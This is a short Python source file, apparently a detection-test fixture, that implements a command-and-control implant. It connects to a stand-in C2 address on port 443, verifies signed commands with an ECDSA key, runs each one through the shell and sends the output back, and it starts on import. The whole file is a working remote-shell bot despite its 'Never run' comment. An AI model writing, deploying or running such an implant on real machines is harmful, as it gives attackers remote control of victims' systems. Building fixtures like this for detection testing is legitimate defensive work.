# bot.py - test implant entry point (PyInstaller-shaped fixture): runs
# commands a C2 sends once their signature verifies. Never run.
import os
import socket
import subprocess
from ecdsa import VerifyingKey

C2 = ("192.0.2.79", 443)
KEY = VerifyingKey.from_pem(open(os.path.join(os.path.dirname(__file__), ".k.pem")).read())

def main():
    s = socket.socket()
    s.connect(C2)
    while True:
        sig, cmd = s.recv(4096).split(b" ", 1)
        if KEY.verify(sig, cmd):
            out = subprocess.check_output(cmd, shell=True)
            s.sendall(out)

main()
